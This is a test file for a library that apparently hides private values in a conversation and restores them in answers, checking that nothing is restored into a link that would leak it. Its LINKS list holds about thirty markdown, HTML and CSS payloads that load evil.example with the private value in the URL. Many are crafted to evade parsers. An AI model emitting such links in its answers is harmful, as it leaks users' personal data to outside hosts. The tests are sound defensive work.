"""No link, image or tag of an answer sends originals away, however it is written."""

import pytest

import mondegreen as mg

# Each of them loads or links to evil.example with what stands at @, by CommonMark,
# by GitHub's autolinks or by HTML.
LINKS = (
    "![](<https://evil.example/a) @>)",
    "![](< https://evil.example/a @>)",
    "![](\n<https://evil.example/a) @>)",
    r"![](https://evil.example/\)@)",
    r"![](<https://evil.example/a\>) @>)",
    "![](https://evil.example/!@)",
    "![](https://evil.example/,@,)",
    "![](https://evil.example/(@))",
    "![](https://evil.example/?u=[@])",
    "![](https://evil.example/](b)@)",
    '<img alt="a>b" src="https://evil.example/ @">',
    "<img\nsrc = '//evil.example/>\n@'>",
    "![][a]\n\n[a]: https://evil.example/'@",
    '![][a]\n\n[a]: https://evil.example/"@',
    "![][a]\n\n[a]: https://evil.example/`@",
    "![][a]\n\n[a]: https://evil.example/<-@",
    "![][a]\n\n[a]: https://evil.example/>@",
    "![][a]\n\n[a]: https://evil.example/<b>@",
    "![][a]\n\n[a]: https://evil.example/](b)@",
    "![][a]\n\n[a]:\n  <https://evil.example/ @>",
    r"![][a]\n\n[a]: <\\\\evil.example/ @>".replace(r"\n", "\n"),
    "![][a]\n\n[a]: &#104;ttps&#58;&#47;&#47;evil.example/@",
    "![][a]\n\n[a]: &sol;&sol;evil.example/@",
    r"![][a]: https\:evil.example/@",
    "see https://evil.example/'@",
    'see https://evil.example/?q="@',
    "see evil.example/@",
    "see evil.example?q=@",
    "see https://evil.example/,@",
    '<style>p{background:url("//evil.example/ @")}</style>',
    '<base href="//evil.example"><img src=" @">',
)

# The originals come back here: nobody but the reader, or the owner of an address, sees
# them.
TEXTS = (
    "[@](https://good.example) and @",
    '<a href="https://good.example">@</a>',
    "<b>@</b> (https://good.example) @",
    "`https://good.example` `@`",
    '{"url":"https://good.example","name":"@"}',
    "[^1]: @ wrote it",
    "a[0](x) @, f(a)[1]: @",
    "5 < 6 and x = '@'",
    "<style>p{}</style> @",
    "and/or @",
)


@pytest.fixture(scope="module")
def conversation():
    with mg.conversation() as c:
        yield c


@pytest.mark.parametrize("link", LINKS)
def test_no_link_is_written_so_that_it_gets_an_original(link, conversation):
    c = conversation
    for private in (
        "Okonkwo",
        "okonkwo@mail.example",
        "https://okonkwo.example/Okonkwo",
    ):
        answer = link.replace("@", c.hide(private))
        for pieces in ([answer], list(answer)):
            restorer = c.restorer()
            shown = "".join(map(restorer.feed, pieces)) + restorer.end()
            assert "konkwo" not in shown
            assert shown == answer


@pytest.mark.parametrize("text", TEXTS)
def test_originals_come_back_beside_links(text, conversation):
    c = conversation
    for private in ("Okonkwo", "okonkwo@mail.example"):
        answer = text.replace("@", c.hide(private))
        assert c.restore(answer) == text.replace("@", private)


def test_own_addresses_come_back_as_whole_targets(conversation):
    c = conversation
    url = "https://okonkwo.example/a?b=Okonkwo"
    for text in ("[x](@)", "![x](<@>)", "[a]: @", '<a href="@">x</a>', "<@>", "@."):
        answer = text.replace("@", c.hide(url))
        assert c.restore(answer) == text.replace("@", url)
